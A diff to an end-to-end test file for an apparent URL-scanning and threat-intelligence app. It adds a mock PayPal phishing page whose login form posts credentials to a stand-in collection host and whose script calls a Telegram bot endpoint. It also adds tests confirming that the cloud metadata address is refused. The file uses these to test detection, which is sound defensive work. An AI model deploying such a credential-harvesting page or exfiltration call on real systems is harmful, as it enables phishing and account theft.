@@ -26,6 +26,12 @@ describe("the pages of URL scans", () => {
         response
           .writeHead(200, { "content-type": "text/html" })
           .end(`<!doctype html><html lang="en"><title>Changing page</title><h1>Changing page</h1><p>${text}</p>`),
+      "/collecting": `<!doctype html><html lang="en"><title>Log in to your PayPal account</title><h1>PayPal</h1>
+        <p>Your account is limited. Log in with your password to verify your identity.</p>
+        <form method="post" action="http://collect.localhost:9102/gate.php"><input type="email" name="login_email"><input type="password" name="login_password"><button>Log In</button></form>
+        <script>const bot = () => fetch("https://api.telegram.org/bot7123456789:AA${"q".repeat(33)}/sendMessage")</script>
+        <script>var _gaq = "UA-73512345-2"</script>`,
+      "/reset": (request) => void request.socket.destroy(),
       "/app.js": (_request, response) =>
         response.writeHead(200, { "content-type": "text/javascript" }).end("globalThis.app = 1;"),
     });
@@ -193,7 +199,13 @@ describe("the pages of URL scans", () => {
     const page = await pages.open("/scan");
     const before = site.asked.length;
     await scan(page, site.at("/?reset=1&u=a%40example.net"));
-    await expect(page.getByRole("status").filter({ hasText: "looks like an e-mail address" })).toBeVisible();
+    const warning = page.getByRole("status").filter({ hasText: "looks like an e-mail address" });
+    await expect(warning).toBeVisible();
+    await eventually(() => warning.locator("mark").allTextContents()).toEqual(["a%40example.net"]);
+    const warned = (await warning.textContent()) ?? "";
+    expect(warned).not.toMatch(/accept_private_parts|\.:/);
+    expect(warned.match(/looks like an e-mail address/g)).toHaveLength(1);
+    expect(warned.match(/may hold a secret/g)).toHaveLength(1);
     expect(site.asked).toHaveLength(before);
     await scan(page, site.at("/"));
     const summary = region(page, "Summary");
@@ -204,6 +216,41 @@ describe("the pages of URL scans", () => {
     expect(await page.getByRole("main").getByRole("region").first().getAttribute("aria-label")).toBe("Summary");
     const refused = region(page, "Requests").locator("tbody tr").filter({ hasText: "10.0.0.1" });
     expect(await refused.textContent()).toContain("is refused");
+
+    // A request opens to all that is kept of it; only what is led on leads to somewhere.
+    const row = async (url: string) => {
+      const found = region(page, "Requests").locator("tbody tr").filter({ hasText: url }).first();
+      await found.getByRole("button", { expanded: false }).click();
+      return (await found.locator("dl").textContent()) ?? "";
+    };
+    const script = await row("/app.js");
+    expect(script).toMatch(
+      /Asked for by.*\/login.*Address127\.0\.0\.1, port \d+.*SHA-256[\da-f]{64}, 19 B.*Times.*waiting \d+ ms/,
+    );
+    expect(script).not.toContain("Leads to");
+    expect(await row(site.at("/"))).toContain(`Leads to${site.at("/login")}`);
+
+    // The picture can be seen whole, opened in a tab, and saved.
+    await summary.getByRole("button", { name: /as the browser showed it/ }).click();
+    const whole = page.getByRole("dialog", { name: "Picture of the page" });
+    await expect(whole.getByRole("img")).toBeVisible();
+    expect(await whole.getByRole("img").evaluate((one: { clientWidth: number }) => one.clientWidth)).toBeGreaterThan(
+      900,
+    );
+    const [picture] = await Promise.all([
+      page.waitForEvent("download"),
+      whole.getByRole("link", { name: "Save" }).click(),
+    ]);
+    expect((await readFile(await picture.path())).toString("latin1", 8, 12)).toBe("WEBP");
+    const [tab] = await Promise.all([
+      page.waitForEvent("popup"),
+      whole.getByRole("link", { name: "Open in a tab" }).click(),
+    ]);
+    expect(tab.url()).toMatch(/^blob:/);
+    await tab.close();
+    expect(await faultsInTheme(page)).toEqual([]);
+    await page.keyboard.press("Escape");
+    await expect(whole).toBeHidden();
     expect(await region(page, "Content").textContent()).toMatch(/own site.*user, pass.*scan-page@example\.net/s);
     await page.getByRole("main").getByRole("link", { name: "URL Scan", exact: true }).click();
     await expect(
@@ -211,6 +258,61 @@ describe("the pages of URL scans", () => {
         .getByRole("link", { name: site.at("/"), exact: true })
         .first(),
     ).toBeVisible();
+  });
+
+  it("lead on from who takes what is typed, and from a title and a tracker, to the scans that have it", async ({
+    skip,
+  }) => {
+    skip(off !== null, off ?? "");
+    const host = "paypal-signin.localhost";
+    const phish = site.at("/collecting", host);
+    const page = await pages.goOn("/scan");
+    await scan(page, phish);
+    const artifacts = region(page, "Artifacts");
+    await artifacts.waitFor({ timeout: 60_000 });
+    const shown = (await artifacts.textContent()) ?? "";
+    expect(shown).toMatch(/Posts to.*http:\/\/collect\.localhost:9102\/gate\.php/s);
+    expect(shown).toMatch(/https:\/\/api\.telegram\.org\/bot7123…qqqq\/sendMessage/);
+    const address = pathOf(page);
+    await artifacts.getByRole("link", { name: "scans that post there" }).first().click();
+    const link = page.getByRole("main").getByRole("link", { name: phish, exact: true });
+    await expect(link.first()).toBeVisible();
+    expect(await page.getByRole("main").textContent()).toContain("http://collect.localhost:9102/gate.php");
+
+    for (const [kind, value, words] of [
+      ["text", "Log in to your PayPal account", "Scans with the same title"],
+      ["tracker", "UA-73512345-2", "Scans with the same tracker"],
+      ["text", "UA-73512345-2", "Scans with the same tracker"],
+    ] as const) {
+      await goWithin(page, `/pivot?kind=${kind}&value=${encodeURIComponent(value)}`);
+      await expect(
+        region(page, "URL scans").getByRole("region", { name: words }).getByRole("link").first(),
+      ).toBeVisible();
+      expect(await page.getByRole("article").getByRole("region").first().getAttribute("aria-label")).toBe("URL scans");
+    }
+    expect(await faultsInTheme(page)).toEqual([]);
+    await goWithin(page, "/pivot?kind=text&value=No%20page%20has%20this");
+    await expect(page.getByText("None of the scans that you may see has it.")).toBeVisible();
+
+    await goWithin(page, "/search?input=collect.localhost&type=domain");
+    await expect(region(page, "URL scans").getByRole("link", { name: phish }).first()).toBeVisible();
+
+    // What a scan took for phishing is told where nothing else is known of the name.
+    await goWithin(page, `/search?input=${host}&type=domain`);
+    await expect(region(page, "URL scans").getByText("Malicious")).toBeVisible();
+    const words = /Unknown to lists; a scan of \d+ \w+ \d{4}, [\d:]+ .* took it for phishing/;
+    await expect(page.getByRole("article").locator("header").getByText(words)).toBeVisible();
+    expect(await region(page, "Why this risk").textContent()).toMatch(
+      /No list speaks for or against this domain; a scan/,
+    );
+    expect(await page.getByRole("main").textContent()).not.toMatch(/no evidence/i);
+    await page
+      .getByRole("article")
+      .locator("header")
+      .getByRole("link", { name: /^a scan of/ })
+      .click();
+    await eventually(() => pathOf(page)).toBe(address);
+    await expect(artifacts).toBeVisible();
   });
 
   itInSoak("stand on the pages of the addresses that they reached", async ({ skip }) => {
@@ -227,8 +329,11 @@ describe("the pages of URL scans", () => {
     skip(off !== null, off ?? "");
     const page = await pages.goOn("/scan");
     await scan(page, "http://169.254.169.254/latest/");
-    await expect(page.getByText("169.254.169.254 is refused")).toBeVisible();
+    await expect(page.getByRole("alert").getByText("169.254.169.254 is refused")).toBeVisible();
+    expect(pathOf(page)).toBe("/scan");
+    await scan(page, site.at("/reset"));
     await expect(page.getByRole("button", { name: "Scan again" })).toBeVisible();
+    await expect(page.getByText(/The page could not be opened/)).toBeVisible();
     expect(await faultsInTheme(page)).toEqual([]);
 
     await goWithin(page, "/scan/01990000-0000-7000-8000-000000000000");
